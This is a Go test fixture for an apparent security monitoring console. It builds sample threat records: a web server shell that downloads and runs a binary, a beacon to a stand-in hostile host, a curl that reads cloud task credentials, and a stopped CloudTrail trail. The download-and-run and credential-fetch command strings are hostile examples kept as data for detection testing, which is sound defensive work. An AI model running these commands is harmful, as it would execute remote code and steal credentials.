package consoletest

import (
	"net/netip"
	"time"

	"github.com/castellan-security/castellan/internal/event"
	"github.com/castellan-security/castellan/internal/finding"
	"github.com/castellan-security/castellan/internal/threat"
)

// Threats are what rules saw in the shop: an attack on the storefront in five steps, a
// package manager in a worker, and one that names everything as a hostile program would.
func Threats(now time.Time) []*threat.Threat {
	now = now.UTC().Truncate(time.Millisecond)
	key := func(pid uint32) event.Key { return event.Key{PID: pid, Start: uint64(pid) * 1_000} }
	web := threat.Ancestor{Key: key(4_010), Name: "gunicorn", Executable: "/usr/bin/python3.11", Args: []string{"gunicorn", "shop:app"}}
	shell := threat.Ancestor{Key: key(4_120), Name: "sh", Executable: "/bin/dash", Args: []string{"sh", "-c", "curl -s http://203.0.113.9/x -o /tmp/x; chmod +x /tmp/x; /tmp/x"}}
	peer := threat.Peer{Address: netip.MustParseAddrPort("203.0.113.9:4444"), Name: "cdn.evil.example", Peer: event.Peer{Kind: event.PeerPublic}}
	step := func(ago time.Duration, rule, title string, s finding.Severity, tactic threat.Tactic, technique string, pid uint32, exe string, args []string, says string) *threat.Threat {
		t := &threat.Threat{
			Version: threat.Version, Rule: rule, Title: title, Severity: s, Tactic: tactic, Techniques: []string{technique}, Summary: says,
			First: now.Add(-ago), Last: now.Add(-ago), Count: 1, AgentID: AgentID, WorkloadID: Storefront, Group: "shop/storefront/storefront",
			Process: event.Process{Key: key(pid), Parent: shell.Key, Name: args[0], Executable: exe}, Args: args, Ancestors: []threat.Ancestor{shell, web}, Root: shell.Key,
			Evidence: []threat.Evidence{{Boot: Boot, Seq: uint64(pid), Time: now.Add(-ago), Kind: event.KindExec, Words: "ran " + exe}},
		}
		return t
	}
	began := step(9*time.Minute, "shell-from-server", "A web server started a shell", finding.High, threat.Execution, "T1059.004", 4_120, shell.Executable, shell.Args, "gunicorn started sh")
	began.Process.Parent, began.Ancestors = web.Key, []threat.Ancestor{web}
	fetched := step(9*time.Minute-time.Second, "download-tool", "A program was downloaded", finding.Medium, threat.CommandAndControl, "T1105", 4_121, "/usr/bin/curl", []string{"curl", "-s", "http://203.0.113.9/x", "-o", "/tmp/x"}, "curl wrote /tmp/x from 203.0.113.9")
	fetched.Files, fetched.Peers = []string{"/tmp/x"}, []threat.Peer{peer}
	ran := step(9*time.Minute-3*time.Second, "download-run", "What was downloaded was run", finding.Critical, threat.Execution, "T1204.002", 4_123, "/tmp/x", []string{"/tmp/x"}, "/tmp/x, which was written since the container started, was run")
	ran.Files, ran.Reaction = []string{"/tmp/x"}, event.ReactionKilled
	called := step(8*time.Minute, "beacon", "A program calls the same address again and again", finding.High, threat.CommandAndControl, "T1071.001", 4_123, "/tmp/x", []string{"/tmp/x"}, "/tmp/x called 203.0.113.9:4444 every 5 s")
	called.Peers, called.Count, called.Last = []threat.Peer{peer}, 42, now.Add(-3*time.Minute)
	keys := step(2*time.Minute, "credentials-task", "Task credentials were read by a program that never did", finding.High, threat.CredentialAccess, "T1552.005", 4_130, "/usr/bin/curl", []string{"curl", "169.254.170.2/v2/credentials/0b1c"}, "curl asked 169.254.170.2 for the task's credentials")
	keys.Peers = []threat.Peer{{Address: netip.MustParseAddrPort("169.254.170.2:80"), Peer: event.Peer{Kind: event.PeerService}}}

	apt := step(3*time.Hour, "package-manager", "A package manager ran in a container", finding.Low, threat.Execution, "T1072", 5_200, "/usr/bin/apt-get", []string{"apt-get", "install", "strace"}, "apt-get install strace was run")
	apt.AgentID, apt.WorkloadID, apt.Group, apt.Root, apt.Ancestors, apt.Entered = Agent2ID, Worker, "shop/worker/worker", key(5_200), nil, true

	odd := step(30*time.Minute, "hidden-file", "A hidden file was run", finding.Medium, threat.DefenseEvasion, "T1564.001", 6_700, "/tmp/."+HostileName, []string{HostileName, "--" + HostileName}, HostileName+" was run")
	odd.WorkloadID, odd.Group, odd.Root, odd.Ancestors, odd.Files = Hostile, string(HostileGroup), key(6_700), nil, []string{"/tmp/." + HostileName}
	odd.Peers = []threat.Peer{{Address: netip.MustParseAddrPort("198.51.100.7:443"), Name: HostileName, Peer: event.Peer{Kind: event.PeerPublic}}}

	// Nobody's host saw this one: CloudTrail told of it.
	trail := &threat.Threat{
		Version: threat.Version, Rule: "trail-trail-stopped", Title: "A trail of CloudTrail was stopped", Severity: finding.High, Tactic: threat.DefenseEvasion, Techniques: []string{"T1562.008"},
		Summary: "anna stopped trail org-trail", First: now.Add(-50 * time.Minute), Last: now.Add(-50 * time.Minute), Count: 1,
		Call: &threat.Call{
			ID: "6f1c0f2e-93a4-4b43-9c3a-2f8d9f1f0001", Name: "cloudtrail:StopLogging", Account: "123456789012", Region: "eu-central-1", Kind: event.ActorUser,
			Actor: "arn:aws:iam::123456789012:user/anna", Words: "user anna", Key: "AKIAIOSFODNN7EXAMPLE", Source: "198.51.100.23", Agent: "aws-cli/2.17.44",
		},
		Evidence: []threat.Evidence{{Boot: "trail", Seq: 1, Time: now.Add(-50 * time.Minute), Kind: event.KindCall, Words: "cloudtrail:StopLogging"}},
	}
	all := []*threat.Threat{began, fetched, ran, called, keys, apt, odd, trail}
	for _, t := range all {
		t.Print = threat.PrintOf(t.Rule, t.AgentID, t.WorkloadID, t.Root)
	}
	return all
}
